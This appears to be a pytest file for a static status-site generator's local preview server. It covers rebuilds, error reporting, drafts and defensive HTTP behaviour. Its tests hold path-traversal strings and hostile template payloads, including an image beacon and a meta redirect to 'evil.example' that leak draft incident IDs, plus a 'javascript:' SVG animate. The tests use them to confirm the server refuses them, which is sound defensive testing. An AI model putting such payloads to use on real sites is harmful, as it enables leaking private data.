"""The preview shows the site on this computer, reports mistakes, and follows the files and the clock."""

import html
import os
import re
import signal
import socket
import subprocess
import sys
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from threading import Event
from urllib.request import urlopen

import pytest
from click.testing import CliRunner

from statusgen import addresses
from statusgen.cli.main import main
from statusgen.outputs.host import media_type
from statusgen.preview.app import serve
from statusgen.problems import OutputError
from tests.support.preview import PATIENCE, RunningPreview, Writer, next_news, run_preview
from tests.support.sample_sites import make_city

SERVICES = """\
  - name: Trash pickup
  - name: Pay a water bill
    channels: [{kind: online}, {kind: in_person, address: 12 Main Street, hours: 9 a.m. to 4 p.m.}]
"""
POST = """\
---
title: Water bills cannot be paid online
started: 2024-05-05 08:00
services:
  pay-a-water-bill/online: down
next_update: 2024-05-05 10:00
---
We are looking into it.

## 2024-05-05 11:00 Resolved

It works again.
"""
# What a folder has for those who check it as a whole.
OF_THE_WHOLE = (".statusgen", addresses.manifest())
FILE = "incidents/post-1.md"
PAGE = "/incidents/post-1/"


@pytest.fixture
def writer(tmp_path: Path) -> Writer:
    return make_writer(tmp_path)


@pytest.fixture(scope="module")
def preview(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningPreview]:
    """A preview for tests that change nothing."""
    with run_preview(make_writer(tmp_path_factory.mktemp("quiet"))) as preview:
        yield preview


def make_writer(folder: Path) -> Writer:
    (folder / "city").mkdir()
    make_city(folder / "city", SERVICES, POST)
    return Writer(folder / "city")


def test_every_file_is_the_one_that_build_writes(writer: Writer, tmp_path: Path) -> None:
    with run_preview(writer) as preview:
        for at, root in (("2024-05-06 12:00", "/"), ("2024-05-05 08:00", "/~preview/at/20240505T130000Z/")):
            site = tmp_path / root.replace("/", "-")
            options = ["--source", str(writer.folder), "--output", str(site), "--at", at]
            assert CliRunner().invoke(main, ["build", *options]).exit_code == 0
            files = [path for path in site.rglob("*") if path.is_file() and path.name not in OF_THE_WHOLE]
            assert len(files) > 30
            for path in files:
                name = path.relative_to(site).as_posix()
                assert preview.ask(f"{root}{name}")[::2] == (200, path.read_bytes()), name


def test_a_folder_shows_its_index(writer: Writer) -> None:
    writer.save("incidents/jos\u00e9.md", POST)
    with run_preview(writer) as preview:
        assert "We are looking into it" in preview.page("/incidents/jos%C3%A9/?page=2")[1]
        with urlopen(f"{preview.address}/incidents/jos%C3%A9", timeout=PATIENCE) as answer:
            assert answer.url == f"{preview.address}/incidents/jos%C3%A9/"


def test_an_unknown_address_shows_the_site_s_own_page(preview: RunningPreview) -> None:
    own = preview.page("/404.html")[1]
    for address in ("/nothing", "/nothing/", "/../services.yaml", "/%2e%2e/services.yaml", "//etc/passwd"):
        assert preview.page(address) == (404, own), address


@pytest.mark.parametrize("name", ["server.py", "../server.py", "%2e%2e/server.py", "frame/frame.js", "nothing", "at/"])
def test_nothing_but_the_frame_lies_beside_it(preview: RunningPreview, name: str) -> None:
    status, _, content = preview.ask(f"/~preview/{name}")
    assert (status, b"import" in content) == (404, False)


def test_the_address_alone_leads_a_browser_to_the_tools_and_a_program_to_the_page(preview: RunningPreview) -> None:
    status, headers, _ = preview.ask("/", Sec_Fetch_Dest="document")
    assert (status, headers["Location"]) == (302, "/~preview/")
    assert preview.ask("/", Sec_Fetch_Dest="iframe")[0] == 200
    assert preview.ask("/")[0] == 200


def test_news_come_when_a_file_changes_comes_or_goes(writer: Writer) -> None:
    with run_preview(writer) as preview, preview.listen() as next_event:
        seen = [next_event()["pages"]]
        writer.save(FILE, POST.replace("looking into it", "calling the vendor"))
        seen.append(next_event()["pages"])
        assert "calling the vendor" in preview.page(PAGE)[1]

        writer.save("incidents/post-2.md", POST)
        seen.append(next_event()["pages"])
        assert preview.page("/incidents/post-2/")[0] == 200

        (writer.folder / "incidents" / "post-2.md").unlink()
        seen.append(next_event()["pages"])
        assert preview.page("/incidents/post-2/")[0] == 404

        assert len(set(seen)) == 4
        assert [preview.next_message() for _ in range(3)] == ["Built again."] * 3


def test_the_site_changes_when_its_time_has_come_though_nobody_writes(writer: Writer) -> None:
    writer.save(FILE, POST.partition("\n## ")[0] + "\n")
    writer.now -= timedelta(days=1, hours=3)
    with run_preview(writer) as preview, preview.listen() as next_event:
        next_event()
        assert "It is overdue." not in preview.page(PAGE)[1]
        writer.now += timedelta(hours=2)
        assert next_event()["good"]
        assert "It is overdue." in preview.page(PAGE)[1]


def test_mistakes_are_told_and_the_last_good_site_stays_until_they_are_fixed(writer: Writer) -> None:
    with run_preview(writer) as preview, preview.listen() as next_event:
        first = next_event()
        assert (first["good"], [finding for finding in first["findings"] if not finding["advice"]]) == (True, [])

        writer.save(FILE, POST.replace("/online: down", "/online: <b>down</b>"))
        news = next_event()
        assert preview.next_message().startswith(f"{FILE}:5: ")
        assert (news["good"], news["pages"]) == (False, first["pages"])
        finding = news["findings"][0]
        assert (finding["place"], finding["page"]) == (f"{FILE}:5", "incidents/post-1/index.html")
        assert "<b>down</b>" in finding["what"]
        assert "Choose from" in finding["hint"] or "Did you mean" in finding["hint"]
        assert "We are looking into it" in preview.page(PAGE)[1]

        writer.save(FILE, POST)
        assert next_event()["good"]
        assert preview.next_message() == "Built again."


def test_a_mistake_in_a_template_is_told_too(writer: Writer) -> None:
    with run_preview(writer) as preview, preview.listen() as next_event:
        next_event()
        writer.save(
            "templates/about.html", '{% extends "theme/base.html" %}\n{% block content %}{{ nobody }}{% endblock %}'
        )
        news = next_event()
        assert (news["good"], news["findings"][0]["place"]) == (False, "templates/about.html:2")
        assert preview.page("/about/")[0] == 200
        status, page = preview.page("/~preview/at/20240505T130000Z/about/")  # which was not made before
        assert (status, "This page cannot be made." in page) == (500, True)


def test_a_mistake_in_what_is_no_page_is_told_after_the_pages(writer: Writer) -> None:
    with run_preview(writer) as preview, preview.listen() as next_event:
        next_event()
        writer.save("templates/badge.svg", "<svg>{{ nobody }}</svg>")
        writer.save(FILE, POST.replace("looking into it", "calling the vendor"))
        while (news := next_event())["good"]:
            pass  # they may be there for a moment
        assert news["findings"][0]["place"] == "templates/badge.svg:1"
        assert "looking into it" in preview.page(PAGE)[1]


def test_before_the_first_good_build_there_is_the_frame_with_the_mistakes(writer: Writer) -> None:
    writer.save(FILE, POST.replace("down", "dwon"))
    with run_preview(writer) as preview:
        assert preview.first_message.startswith(f"{FILE}:5: ")
        status, page = preview.page(PAGE)
        assert (status, "There is no site yet." in page) == (503, True)
        assert preview.page("/~preview/at/20240505T130000Z/")[0] == 503
        assert preview.page("/~preview/")[0] == 200
        with preview.listen() as next_event:
            assert next_event()["findings"][0]["place"] == f"{FILE}:5"
            writer.save(FILE, POST)
            assert next_event()["good"]
        assert preview.page(PAGE)[0] == 200


def test_a_file_that_goes_away_while_it_is_read_is_told_too(writer: Writer) -> None:
    def read() -> None:
        raise FileNotFoundError(2, "No such file or directory", "city.md")

    with run_preview(writer, read=read) as preview:
        assert preview.first_message == "city.md cannot be read: No such file or directory."
        assert preview.news()["trouble"] == preview.first_message


def test_the_moments_are_those_at_which_the_site_changes(writer: Writer) -> None:
    writer.save(
        "incidents/works.md",
        "---\ntitle: Meters are changed\nkind: maintenance\nposted: 2024-05-05 11:00\nstarts: 2024-05-07 22:00\n"
        "ends: 2024-05-08 04:00\nservices: [trash-pickup]\n---\n",
    )
    with run_preview(writer) as preview:
        stops = preview.news()["stops"]
        found = [(stop["kind"], stop["when"].replace("\u202f", " "), "; ".join(stop["what"])) for stop in stops]
        bill = "Water bills cannot be paid online"
        assert found == [
            ("before", "May 5, 2024, 7:59 AM CDT", ""),
            ("past", "May 5, 2024, 8 AM CDT", f"{bill}: First update"),
            ("past", "May 5, 2024, 10 AM CDT", f"{bill}: the promised update is overdue"),
            ("past", "May 5, 2024, 11 AM CDT", f"{bill}: Resolved; Meters are changed: First update"),
            ("now", "May 6, 2024, noon CDT", ""),
            ("future", "May 7, 2024, 10 PM CDT", "Meters are changed: the work begins"),
            ("future", "May 8, 2024, 4 AM CDT", "Meters are changed: the work ends"),
        ]
        pages = [preview.page(f"/~preview/at/{stop['name']}/call-sheet/")[1] for stop in stops]
    words = ["Closed for planned work" in page for page in pages]
    assert words == [False] * 5 + [True, False]
    words = ["Not available: Online" in re.sub(r"<[^>]+>", "", page) for page in pages]
    assert words == [False, True, True, False, False, False, False]


@pytest.mark.parametrize("moment", ["20240505T130001Z", "now", "00000000T000000Z", "%2e%2e", "20240505T130000Z%2f.."])
def test_only_the_moments_of_the_slider_can_be_asked_for(preview: RunningPreview, moment: str) -> None:
    assert preview.page(f"/~preview/at/{moment}/index.html")[0] == 404
    assert preview.page("/~preview/at/20240505T130000Z/index.html")[0] == 200


def test_drafts_are_marked_wherever_they_stand(writer: Writer) -> None:
    post = POST.partition("\n## ")[0].replace("---\n", "---\ndraft: true\n", 1)
    writer.save("incidents/unsure.md", post)
    notice = "---\ntitle: Hang up\nkind: notice\ntopic: fraud\nstarted: 2024-05-05\ndraft: true\n---\nHang up.\n"
    writer.save("incidents/false-calls.md", notice)
    with run_preview(writer) as preview:
        front = preview.page("/")[1]
        assert {draft["page"] for draft in preview.news()["drafts"]} == {
            "incidents/unsure/index.html",
            "incidents/false-calls/index.html",
        }
        assert "Draft: not published." in preview.page("/incidents/unsure/")[1]
        assert "Draft: not published." not in preview.page(PAGE)[1]
    for heading in ("incident-unsure", "notice-false-calls"):
        assert "Draft: not published." in front.partition(f'id="{heading}"')[2].partition("</h2>")[0]
    assert front.count("Draft: not published.") == 4  # with the line of each among the updates
    with run_preview(writer, drafts=False) as preview:
        assert preview.page("/incidents/unsure/")[0] == 404
        assert preview.news()["drafts"] == []


@pytest.mark.parametrize("host", ["evil.example", "evil.example:{port}", "localhost", "127.0.0.1:1", ""])
def test_another_site_s_name_is_refused(preview: RunningPreview, host: str) -> None:
    for address in ("/", "/~preview/", "/~preview/news", "/~preview/frame.js", "/~preview/at/20240505T130000Z/"):
        assert preview.ask(address, host=host)[0] == 403


@pytest.mark.parametrize("host", ["localhost:{port}", "127.0.0.1:{port}", "LOCALHOST:{port}", "[::1]:{port}"])
def test_this_computer_s_names_are_fine(preview: RunningPreview, host: str) -> None:
    assert preview.ask("/", host=host)[0] == 200


def test_no_other_site_may_read_or_frame_any_of_it(preview: RunningPreview) -> None:
    for address in ("/", "/status.json", "/feed.xml", "/nothing", "/~preview/", "/~preview/frame.js"):
        headers = preview.ask(address)[1]
        assert headers["Cache-Control"] == "no-store"
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
        assert headers["Access-Control-Allow-Origin"] is None
        assert headers.get_all("Content-Security-Policy")
    assert "frame-ancestors 'self'" in preview.ask("/")[1]["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in preview.ask("/~preview/")[1]["Content-Security-Policy"]


def test_every_file_comes_with_the_policy_of_published_pages(preview: RunningPreview) -> None:
    """What a page says of itself can be taken out by a template."""
    own = re.search(r'Content-Security-Policy" content="([^"]+)"', preview.ask("/")[2].decode())
    assert own
    for address in ("/", "/status.json", "/feed.xml", "/badge.svg", PAGE, "/nothing"):
        (policy,) = preview.ask(address)[1].get_all("Content-Security-Policy") or []
        given = dict(rule.split(" ", 1) for rule in policy.split("; "))
        asked = dict(rule.split(" ", 1) for rule in html.unescape(own[1]).split("; "))
        assert set(asked.pop("style-src").split()) <= set(given.pop("style-src").split())
        assert given == asked | {"frame-ancestors": "'self'"}


@pytest.mark.parametrize(
    ("template", "words"),
    [
        ("<script>fetch('/~preview/news')</script>", "There is a script in the page"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/{{ board.incidents[0].id }}">', "redirect"),
        ('<link rel="dns-prefetch" href="https://secret.evil.example/">', "not part of this site"),
        ('<img alt="" src="https://evil.example/?{{ board.incidents[0].id }}">', "not part of this site"),
        ("<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>", "animate"),
    ],
)
def test_a_colleague_s_template_cannot_read_drafts(writer: Writer, template: str, words: str) -> None:
    """The page is not shown, so that a pull request can be looked at safely."""
    base = '{% extends "theme/base.html" %}{% block head %}{{ super() }}' + template + "{% endblock %}"
    writer.save("templates/base.html", base)
    with run_preview(writer) as preview:
        status, _, content = preview.ask(PAGE)
    assert status == 500
    assert words in html.unescape(content.decode())
    assert "evil.example/post" not in content.decode()


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS"])
def test_nothing_can_be_written(preview: RunningPreview, method: str) -> None:
    assert preview.ask("/", method)[0] == 405


def test_heads_can_be_asked_for(preview: RunningPreview) -> None:
    page = preview.ask("/index.html")
    for address in ("/index.html", "/~preview/", "/~preview/news", "/nothing"):
        status, _, content = preview.ask(address, "HEAD")
        assert (status, content) == (404 if address == "/nothing" else 200, b"")
    assert preview.ask("/index.html", "HEAD")[1]["Content-Length"] == str(len(page[2]))


def test_types_are_those_of_the_web(preview: RunningPreview) -> None:
    for address, kind in {
        "/": "text/html; charset=utf-8",
        "/~preview/": "text/html; charset=utf-8",
        "/~preview/frame.css": "text/css; charset=utf-8",
        "/~preview/frame.js": "text/javascript; charset=utf-8",
        "/calendar.ics": "text/calendar; charset=utf-8",
        "/status.json": "application/json",
        "/feed.xml": "application/rss+xml; charset=utf-8",
        "/badge.svg": "image/svg+xml",
    }.items():
        assert preview.ask(address)[1]["Content-Type"] == kind


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("a.js", "text/javascript; charset=utf-8"),
        ("sms.TXT", "text/plain; charset=utf-8"),
        ("a.csv", "text/csv; charset=utf-8"),
        ("a.jpg", "image/jpeg"),
        ("a.png", "image/png"),
        ("a.webp", "image/webp"),
        ("_headers", "application/octet-stream"),
    ],
)
def test_types_of_other_files(path: str, kind: str) -> None:
    assert media_type(path) == kind


def refusal(writer: Writer, *, host: str = "127.0.0.1", port: int = 0) -> str:
    stop = Event()
    stop.set()  # where it is not refused, it ends at once
    with pytest.raises(OutputError) as caught:
        serve(writer.preview_source(), host=host, port=port, say=print, stop=stop)
    return str(caught.value)


def test_a_port_in_use_is_said_in_plain_words(writer: Writer) -> None:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
        assert refusal(writer, port=port) == (
            f"Port {port} is in use already, perhaps by another preview. Choose another, or 0 for any that is free."
        )


def test_there_are_no_ports_above_65535(writer: Writer) -> None:
    assert refusal(writer, port=65_536) == "There is no port 65536: choose a number from 0 to 65535."


def test_other_computers_cannot_be_served(writer: Writer) -> None:
    assert refusal(writer, host="0.0.0.0").startswith("The preview is for this computer alone")


def test_the_newer_loopback_address_works(writer: Writer) -> None:
    try:
        socket.create_server(("::1", 0), family=socket.AF_INET6).close()
    except OSError:
        pytest.skip("this computer has no IPv6")
    with run_preview(writer, "::1") as preview:
        assert preview.address.startswith("http://[::1]:")
        assert preview.page("/")[0] == 200


FROM_A_TERMINAL = """
import signal
import sys
from statusgen.cli.main import main

# Tests that were started in the background have Ctrl-C switched off; those in a terminal do not.
signal.signal(signal.SIGINT, signal.default_int_handler)
main(["serve", "--source", sys.argv[1], "--port", "0", "--at", "2024-05-05 09:00"])
"""


def test_ctrl_c_ends_it_quietly(writer: Writer) -> None:
    arguments = [sys.executable, "-c", FROM_A_TERMINAL, str(writer.folder)]
    with subprocess.Popen(arguments, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as process:
        assert process.stdout
        address = process.stdout.readline().split()[4]
        with urlopen(f"{address}news", timeout=PATIENCE) as events:
            now = [stop["when"] for stop in next_news(events)["stops"] if stop["kind"] == "now"]
            os.kill(process.pid, signal.SIGINT)
            try:
                out, err = process.communicate(timeout=PATIENCE)
            finally:
                process.kill()  # does nothing to a process that has ended
    assert (process.returncode, out, err) == (0, "", "")
    assert [words.replace("\u202f", " ") for words in now] == ["May 5, 2024, 9 AM CDT"]


def test_a_browser_that_goes_away_is_no_error(writer: Writer, capfd: pytest.CaptureFixture[str]) -> None:
    with run_preview(writer) as preview:
        for _ in range(5):
            with socket.create_connection(("127.0.0.1", preview.port), timeout=PATIENCE) as connection:
                connection.sendall(f"GET /~preview/news HTTP/1.1\r\nHost: localhost:{preview.port}\r\n\r\n".encode())
                assert connection.recv(10)
        writer.save(FILE, f"{POST}\nAnd it stays so.\n")
        preview.next_message()
        assert preview.page("/")[0] == 200
    assert capfd.readouterr() == ("", "")
